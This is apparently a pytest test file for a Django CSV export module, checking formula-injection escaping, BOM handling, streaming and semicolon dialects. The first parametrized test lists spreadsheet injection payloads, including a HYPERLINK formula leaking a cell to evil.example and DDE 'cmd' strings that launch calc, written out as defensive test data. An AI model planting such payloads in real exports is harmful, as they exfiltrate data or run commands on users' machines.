import csv
import io
from decimal import Decimal

import pytest
from django.core.exceptions import BadRequest

from core.csv import (
    BOM,
    COMMA,
    SEMICOLON,
    csv_chunks,
    csv_response,
    dialect_named,
    request_dialect,
    safe_cell,
    streaming_csv_response,
)


def read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "=cmd|' /C calc'!A0",
        "+33 5 61 00 00 00",
        "-3+cmd|' /C calc'!A0",
        "-3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_neutralises_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-3, -0.5, Decimal("-1.25"), 0, 42, 62.5])
def test_it_keeps_numbers_as_numbers(number):
    assert safe_cell(number) == number
    assert read(b"".join(csv_chunks(["n"], [[number]])))[1] == [str(number)]


@pytest.mark.parametrize(
    "text", ["Épicerie « Chez Zoé »", "a=b", "1+1", "", "https://example.org/?a=-1", " =1"]
)
def test_it_leaves_ordinary_text_alone(text):
    assert safe_cell(text) == text


def test_it_writes_none_as_an_empty_cell():
    assert safe_cell(None) == ""


def test_it_starts_with_a_bom_then_the_header_and_streams_in_chunks():
    rows = ([n, f"=ligne {n}"] for n in range(5))

    chunks = list(csv_chunks(["id", "nom"], rows, rows_per_chunk=2))

    assert len(chunks) == 3
    assert chunks[0].startswith(BOM.encode())
    assert not any(chunk.startswith(BOM.encode()) for chunk in chunks[1:])
    assert read(b"".join(chunks)) == [["id", "nom"]] + [[str(n), f"'=ligne {n}"] for n in range(5)]


def test_an_empty_table_is_a_bom_and_a_header():
    assert b"".join(csv_chunks(["id"], [])) == BOM.encode() + b"id\r\n"


def test_it_keeps_quotes_separators_and_newlines_in_cells():
    row = ['Dit "Chez Zoé", Foix', "Lun\nMar"]

    assert read(b"".join(csv_chunks(["a", "b"], [row])))[1] == row


def test_it_builds_plain_and_streamed_downloads():
    plain = csv_response(["nom"], [["=1+1"]], filename="a.csv")
    streamed = streaming_csv_response(["nom"], iter([["=1+1"]]), filename="b.csv")

    assert plain["Content-Type"] == streamed["Content-Type"] == "text/csv; charset=utf-8"
    assert plain["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert streamed["Content-Disposition"] == 'attachment; filename="b.csv"'
    expected = [["nom"], ["'=1+1"]]
    assert read(plain.content) == read(b"".join(streamed.streaming_content)) == expected


# --- dialects -----------------------------------------------------------------------------------


def read_french(data: bytes) -> list[list[str]]:
    """As a spreadsheet set to French reads the semicolon variant."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_semicolon_dialect_separates_with_semicolons_and_writes_decimal_commas():
    rows = [["09", "Épicerie; « Chez Zoé », Foix", 62.5, Decimal("43.10"), 100, -0.5, "=1+1"]]

    data = b"".join(csv_chunks(["code", "nom", "a", "b", "c", "d", "e"], rows, dialect=SEMICOLON))

    assert data.startswith(BOM.encode())
    assert data.decode("utf-8-sig").splitlines()[0] == "code;nom;a;b;c;d;e"
    assert read_french(data)[1] == [
        "09",
        "Épicerie; « Chez Zoé », Foix",  # quoted, since it holds the separator
        "62,5",
        "43,10",
        "100",
        "-0,5",
        "'=1+1",
    ]


def test_the_comma_dialect_is_the_default_and_keeps_decimal_points():
    data = b"".join(csv_chunks(["a", "b"], [[62.5, "x;y"]], dialect=COMMA))

    assert data == b"".join(csv_chunks(["a", "b"], [[62.5, "x;y"]]))
    assert read(data)[1] == ["62.5", "x;y"]


@pytest.mark.parametrize(
    ("value", "dialect"), [(None, COMMA), ("comma", COMMA), ("semicolon", SEMICOLON)]
)
def test_sep_names_the_dialect(value, dialect):
    assert dialect_named(value) is dialect


@pytest.mark.parametrize("value", ["", "tab", ";", "Semicolon"])
def test_an_unknown_sep_is_refused(value, rf):
    with pytest.raises(ValueError):
        dialect_named(value)
    with pytest.raises(BadRequest):
        request_dialect(rf.get("/", {"sep": value}))


def test_downloads_take_the_dialect():
    plain = csv_response(["a", "b"], [[1.5, "é"]], filename="a.csv", dialect=SEMICOLON)
    streamed = streaming_csv_response(
        ["a", "b"], iter([[1.5, "é"]]), filename="b.csv", dialect=SEMICOLON
    )

    assert read_french(plain.content) == read_french(b"".join(streamed.streaming_content))
    assert read_french(plain.content) == [["a", "b"], ["1,5", "é"]]
